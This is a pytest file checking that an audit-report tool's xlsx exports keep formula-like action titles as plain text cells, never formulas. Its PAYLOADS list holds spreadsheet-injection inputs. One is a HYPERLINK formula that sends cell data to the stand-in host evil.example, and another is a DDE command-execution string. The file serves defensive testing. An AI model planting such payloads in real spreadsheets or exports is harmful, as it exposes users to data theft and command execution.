"""xlsx: a kit value that starts like a formula (``=HYPERLINK(...)``, ``=cmd|...``, ``+``, ``-``,
``@``, a tab) stays a text cell in every workbook, never a formula."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from conftest import cli, commit_all, report_kit_files, write_files

openpyxl = pytest.importorskip("openpyxl")

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"]


@pytest.fixture(scope="module")
def kit(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("inj") / "kit"
    files = report_kit_files("en")
    for n, payload in enumerate(PAYLOADS):
        files[f"actions/ACT-2026-01{n}.yml"] = (
            f"id: ACT-2026-01{n}\nkind: corrective\nfinding: AUD-2026-01-F1\n"
            f"title: '{payload.replace(chr(39), chr(39) * 2)}'\nowner: RGS\nopened_on: 2026-10-10\n"
            "due: 2026-11-02\nstatus: open\n"
        )
    write_files(root, files)
    commit_all(root, "kit with formula-like titles", date="2026-10-12T10:00:00+00:00")
    return root


@pytest.mark.parametrize("kind", ["action-plan", "matrix", "readiness", "register"])
def test_no_formula_in_any_workbook(kit: Path, kind: str, tmp_path: Path) -> None:
    out = tmp_path / f"{kind}.xlsx"
    run = cli("report", kind, str(kit), "-f", "xlsx", "-o", str(out), "--as-of", "2026-11-23")
    assert run.returncode == 0, run.stderr
    with zipfile.ZipFile(out) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


def test_the_payloads_are_kept_as_text(kit: Path, tmp_path: Path) -> None:
    out = tmp_path / "plan.xlsx"
    assert cli("report", "action-plan", str(kit), "-f", "xlsx", "-o", str(out), "--as-of", "2026-11-23").returncode == 0
    wb = openpyxl.load_workbook(out)
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for payload in PAYLOADS:
        assert payload in cells, payload
        assert cells[payload].data_type == "s" and cells[payload].quotePrefix, payload
